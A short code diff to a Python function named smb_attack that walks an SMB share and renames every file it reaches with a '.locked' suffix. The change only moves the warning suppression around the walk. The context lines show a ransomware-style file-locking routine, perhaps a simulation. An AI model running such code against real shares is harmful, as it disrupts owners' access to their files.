@@ -95,10 +95,12 @@ def smb_attack(client: SmbUser, share: str, start: str = "") -> list[str]:
             smbclient.rename(client.unc(share, name), client.unc(share, name + ".locked"), **kw)
             done.append(name)
 
-    with contextlib.suppress(Exception):  # until cut off: the session ended, the user refused
-        walk(start)
-    with warnings.catch_warnings():  # the handles open when the server hung up are gone
+    # the handles open when the server hung up are gone: their objects may be dropped as
+    # soon as the exception is, so the warning is off from the first file on
+    with warnings.catch_warnings():
         warnings.simplefilter("ignore", ResourceWarning)
+        with contextlib.suppress(Exception):  # until cut off: the session ended, the user refused
+            walk(start)
         client.close()
         gc.collect()
     return done
